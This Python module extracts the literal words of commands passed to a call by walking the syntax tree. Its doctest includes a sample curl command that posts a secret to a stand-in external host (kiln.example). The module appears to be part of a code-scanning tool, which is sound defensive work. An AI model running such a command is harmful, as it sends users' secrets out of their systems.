"""The words that a program is started with, as far as the source writes them out."""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable

    from knownhands.harvest.code.folding import Folder

_UNKNOWN = "…"
_DEEPEST = 20
_MOST = 50  # words of one command; chosen by eye


def written_words(arguments: Iterable[ast.expr], folder: Folder) -> list[str]:
    """Return the texts among a call's arguments, lists unpacked, in their order; what is not written out is left out.

    Args:
        arguments: of the call, without those given by name.
        folder: knows the constants of the file.

    >>> from knownhands.harvest.code.folding import Folder
    >>> call = ast.parse("run(['curl', '-d', secret, f'https://kiln.example/{name}'])", mode="eval").body
    >>> written_words(call.args, Folder(lambda node: ""))
    ['curl', '-d', 'https://kiln.example/…']
    """
    words: list[str] = []
    for argument in arguments:
        parts = argument.elts if isinstance(argument, ast.List | ast.Tuple) else [argument]
        for part in parts[:_MOST]:
            value = folder.fold(part)
            values = value if isinstance(value, list) else [_written(part) if value is None else value]
            words.extend(word for word in values if isinstance(word, str) and word.strip(f" {_UNKNOWN}"))
    return words[:_MOST]


def _written(node: ast.expr, depth: int = 0) -> str:
    """Return what is written out of a text that is put together, with a mark for the rest."""
    if isinstance(node, ast.Constant):
        return node.value if isinstance(node.value, str) else _UNKNOWN
    if depth < _DEEPEST:
        if isinstance(node, ast.JoinedStr):
            return "".join(_written(part, depth + 1) for part in node.values)
        if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
            return _written(node.left, depth + 1) + _written(node.right, depth + 1)
        if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
            return _written(node.left, depth + 1)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
            return _written(node.func.value, depth + 1)
    return _UNKNOWN
